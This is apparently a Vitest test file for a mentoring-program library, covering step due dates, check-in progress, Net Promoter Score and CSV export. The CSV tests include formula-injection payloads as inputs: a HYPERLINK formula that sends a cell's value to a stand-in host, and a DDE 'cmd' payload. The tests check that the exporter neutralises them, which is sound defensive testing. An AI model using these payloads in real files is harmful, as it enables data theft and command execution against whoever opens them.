/**
 * The pure side of check-ins: where a pair is in its program (due dates, who has checked in, the current step,
 * percent done), the Net Promoter Score of the feedback, and the CSV export that must not turn a name into a
 * spreadsheet formula.
 */
import { describe, expect, it } from "vitest";
import {
  clockStart,
  DAY_MS,
  WEEK_MS,
  dueAt,
  netPromoterScore,
  progressOf,
  STALLED_AFTER_DAYS,
} from "@/lib/pairings/progress";
import { csvCell, pairsCsv, pairsCsvStream } from "@/lib/pairings/pairs-csv";
import type { DashboardPairDto } from "@/lib/pairings/dashboard-dto";

const start = new Date("2027-03-01T10:00:00.000Z");
const pairing = { mentorId: "mentor", menteeId: "mentee", clockStartedAt: start };
// Given out of order on purpose: progress follows `position`.
const steps = [
  { id: "s3", position: 2, dueWeek: 4, title: "Look back" },
  { id: "s1", position: 0, dueWeek: 1, title: "Meet" },
  { id: "s2", position: 1, dueWeek: 2, title: "Set a goal" },
];
const both = (stepId: string) => [
  { stepId, userId: "mentor" },
  { stepId, userId: "mentee" },
];

describe("clockStart: a pair's steps start at the match or the program's start, whichever is later", () => {
  const programStart = new Date("2027-03-01T09:00:00.000Z");
  it.each([
    ["matched while the program took applications", "2027-02-10T15:30:00.000Z", programStart, programStart],
    ["matched the moment it started", "2027-03-01T09:00:00.000Z", programStart, programStart],
    ["matched once it was running", "2027-03-04T18:45:00.000Z", programStart, new Date("2027-03-04T18:45:00.000Z")],
    ["the program has not started: no clock, however old the match", "2026-11-01T00:00:00.000Z", null, null],
  ])("%s", (_, matched, started, expected) => {
    expect(clockStart(new Date(matched), started)).toEqual(expected);
  });
});

describe("dueAt: the end of the step's week, one instant for both partners", () => {
  it.each([
    // [clock start, week, due instant]
    ["2027-03-01T10:00:00.000Z", 1, "2027-03-08T10:00:00.000Z"],
    ["2027-03-01T10:00:00.000Z", 2, "2027-03-15T10:00:00.000Z"],
    // Across the European DST change (28 March 2027) and the US one (14 March 2027): whole weeks of 7 × 24 hours,
    // no hour lost or gained, so neither partner's deadline moves with the other's clocks.
    ["2027-03-01T10:00:00.000Z", 5, "2027-04-05T10:00:00.000Z"],
    ["2027-03-10T15:00:00.000Z", 1, "2027-03-17T15:00:00.000Z"],
    // Across the end of DST (1 November 2026 in the US, 25 October in Europe, 5 April 2027 in New Zealand).
    ["2026-10-20T13:00:00.000Z", 2, "2026-11-03T13:00:00.000Z"],
    ["2027-03-30T11:00:00.000Z", 1, "2027-04-06T11:00:00.000Z"],
    // Over the year's end and a leap day.
    ["2027-12-28T23:30:00.000Z", 1, "2028-01-04T23:30:00.000Z"],
    ["2028-02-25T00:00:00.000Z", 1, "2028-03-03T00:00:00.000Z"],
  ])("clock %s, week %i → %s", (clock, week, iso) => {
    expect(dueAt(new Date(clock), week).toISOString()).toBe(iso);
  });

  it("counts whole weeks from the start", () => {
    expect(WEEK_MS).toBe(7 * DAY_MS);
    expect(STALLED_AFTER_DAYS).toBe(14);
  });
});

describe("progressOf", () => {
  it("a new pair: nothing done, the first step current, due dates from the start and each step's week", () => {
    const p = progressOf(steps, [], pairing);
    expect(p.steps.map((s) => s.id)).toEqual(["s1", "s2", "s3"]);
    expect(p.steps.map((s) => s.dueAt?.toISOString())).toEqual([
      "2027-03-08T10:00:00.000Z",
      "2027-03-15T10:00:00.000Z",
      "2027-03-29T10:00:00.000Z",
    ]);
    expect(p.steps[0]).toMatchObject({ title: "Meet", checkedIn: { mentor: false, mentee: false }, complete: false });
    expect(p).toMatchObject({ currentStepId: "s1", done: 0, total: 3, percent: 0, allComplete: false });
  });

  it("before the clock starts: no due dates, and still where the pair is", () => {
    const p = progressOf(steps, [], { ...pairing, clockStartedAt: null });
    expect(p.steps.map((s) => s.dueAt)).toEqual([null, null, null]);
    expect(p).toMatchObject({ currentStepId: "s1", done: 0, total: 3 });
  });

  it("a step is complete only when both have checked in", () => {
    const p = progressOf(steps, [{ stepId: "s1", userId: "mentee" }], pairing);
    expect(p.steps[0]).toMatchObject({ checkedIn: { mentor: false, mentee: true }, complete: false });
    expect(p).toMatchObject({ currentStepId: "s1", done: 0 });

    const q = progressOf(steps, both("s1"), pairing);
    expect(q.steps[0]).toMatchObject({ checkedIn: { mentor: true, mentee: true }, complete: true });
    expect(q).toMatchObject({ currentStepId: "s2", done: 1, percent: 33, allComplete: false });
  });

  it("the current step is the first incomplete one, even when a later one is done", () => {
    const p = progressOf(steps, [...both("s1"), ...both("s3")], pairing);
    expect(p).toMatchObject({ currentStepId: "s2", done: 2, percent: 67, allComplete: false });
  });

  it("every step done: no current step, 100%, all complete", () => {
    const p = progressOf(steps, [...both("s1"), ...both("s2"), ...both("s3")], pairing);
    expect(p).toMatchObject({ currentStepId: null, done: 3, total: 3, percent: 100, allComplete: true });
  });

  it("ignores someone else's check-in, duplicates, and check-ins on steps no longer in the program", () => {
    const p = progressOf(
      steps,
      [
        { stepId: "s1", userId: "mentee" },
        { stepId: "s1", userId: "mentee" },
        { stepId: "s1", userId: "an admin" },
        ...both("removed-step"),
      ],
      pairing,
    );
    expect(p.steps[0]!.complete).toBe(false);
    expect(p).toMatchObject({ done: 0, total: 3, percent: 0 });
    expect(p.steps).toHaveLength(3);
  });

  it("a program without steps is not complete (nothing to finish), 0%", () => {
    expect(progressOf([], [], pairing)).toEqual({
      steps: [],
      currentStepId: null,
      done: 0,
      total: 0,
      percent: 0,
      allComplete: false,
    });
  });
});

describe("netPromoterScore", () => {
  it.each([
    [[], null],
    [[10, 9], 100],
    [[0, 6], -100],
    [[7, 8], 0],
    // 9 is a promoter, 6 a detractor, 7–8 passives.
    [[9, 6, 7, 8], 0],
    [[10, 10, 7, 3], 25],
    [[10, 9, 5], 33],
    [[10, 2, 2], -33],
  ])("%j → %s", (answers, nps) => {
    expect(netPromoterScore(answers)).toBe(nps);
  });
});

describe("csvCell", () => {
  it.each([
    [null, ""],
    ["Ana", "Ana"],
    [3, "3"],
    [-3, "-3"],
    [4.5, "4.5"],
    [true, "true"],
    ["Silva, Ana", '"Silva, Ana"'],
    ['Ana "the soaper"', '"Ana ""the soaper"""'],
    ["two\nlines", '"two\nlines"'],
  ])("%j → %j", (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  // A cell a spreadsheet would run as a formula starts with = + - @ (or a tab or carriage return).
  it.each([
    ["=1+1", "'=1+1"],
    ["+1+1", "'+1+1"],
    ["-1+1", "'-1+1"],
    ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", `"'\r=1+1"`],
    ['=HYPERLINK("http://evil.test","x")', `"'=HYPERLINK(""http://evil.test"",""x"")"`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ])("neutralizes %j as %j", (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });
});

/** A small RFC 4180 reader, to check what a spreadsheet would see. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += c;
  }
  if (cell || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

const pair = (over: Partial<DashboardPairDto>): DashboardPairDto => ({
  id: "p1",
  state: "ACTIVE",
  mentor: "Diego Mentor",
  mentee: "Sam Mentee",
  startedAt: "2027-02-20T16:12:00.000Z",
  clockStartedAt: "2027-03-01T10:00:00.000Z",
  currentStep: "Set a goal",
  currentStepDueAt: "2027-03-15T10:00:00.000Z",
  timeZones: { mentor: "Asia/Tokyo", mentee: "America/Chicago" },
  percent: 33,
  done: 1,
  total: 3,
  lastActivityAt: "2027-03-09T18:30:00.000Z",
  averageRating: 4.5,
  stalled: false,
  lastNudgedAt: null,
  ...over,
});

describe("pairsCsv", () => {
  it("one header and one row per pair, dates as days, instants in UTC to the minute, CRLF lines", () => {
    const csv = pairsCsv([
      pair({}),
      pair({
        id: "p2",
        state: "COMPLETED",
        currentStep: null,
        currentStepDueAt: null,
        averageRating: null,
        stalled: true,
      }),
      pair({ id: "p3", clockStartedAt: null, currentStep: "Meet", currentStepDueAt: null, done: 0, percent: 0 }),
    ]);
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(parseCsv(csv)).toEqual([
      [
        "Mentor",
        "Mentee",
        "State",
        "Started",
        "Steps started (UTC)",
        "Current step",
        "Current step due (UTC)",
        "Steps done",
        "Steps",
        "Complete (%)",
        "Last activity",
        "Average rating",
        "Stalled",
      ],
      // Matched on 20 February, while the program still took applications; its steps started with the program.
      [
        ...["Diego Mentor", "Sam Mentee", "ACTIVE", "2027-02-20", "2027-03-01 10:00", "Set a goal"],
        ...["2027-03-15 10:00", "1", "3", "33", "2027-03-09", "4.5", "no"],
      ],
      [
        ...["Diego Mentor", "Sam Mentee", "COMPLETED", "2027-02-20", "2027-03-01 10:00", ""],
        ...["", "1", "3", "33", "2027-03-09", "", "yes"],
      ],
      // The program has not started: no clock, no due date.
      [
        ...["Diego Mentor", "Sam Mentee", "ACTIVE", "2027-02-20", "", "Meet"],
        ...["", "0", "3", "0", "2027-03-09", "4.5", "no"],
      ],
    ]);
  });

  it("no pairs: the header alone", () => {
    expect(parseCsv(pairsCsv([]))).toHaveLength(1);
  });

  it("a hostile name stays one cell and never starts with a formula character", () => {
    const names = ['=HYPERLINK("http://evil.test?"&A1,"Click")', "+SUM(1,2)", "-2+3", "@cmd", 'Line\r\nbreak, "x"'];
    const csv = pairsCsv(names.map((n, i) => pair({ id: `p${i}`, mentor: n, mentee: n, currentStep: n })));
    const rows = parseCsv(csv).slice(1);
    expect(rows).toHaveLength(names.length);
    rows.forEach((row, i) => {
      expect(row).toHaveLength(13);
      for (const cell of [row[0], row[1], row[5]]) {
        expect(cell).toBe(/^[=+\-@]/.test(names[i]!) ? `'${names[i]}` : names[i]);
        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    });
  });

  it("streamed batch by batch, the file is the same as written at once, and nothing is read before it is pulled", async () => {
    const all = Array.from({ length: 7 }, (_, i) => pair({ id: `p${i}`, mentor: `Mentor ${i}` }));
    let read = 0;
    async function* batches() {
      for (let i = 0; i < all.length; i += 3) {
        read += 1;
        yield all.slice(i, i + 3);
      }
    }
    const stream = pairsCsvStream(batches());
    expect(read).toBe(0);
    const text = await new Response(stream).text();
    expect(read).toBe(3);
    expect(text).toBe(pairsCsv(all));
    expect(await new Response(pairsCsvStream(batches())).text()).toBe(pairsCsv(all));
    expect(await new Response(pairsCsvStream((async function* () {})())).text()).toBe(pairsCsv([]));
  });
});
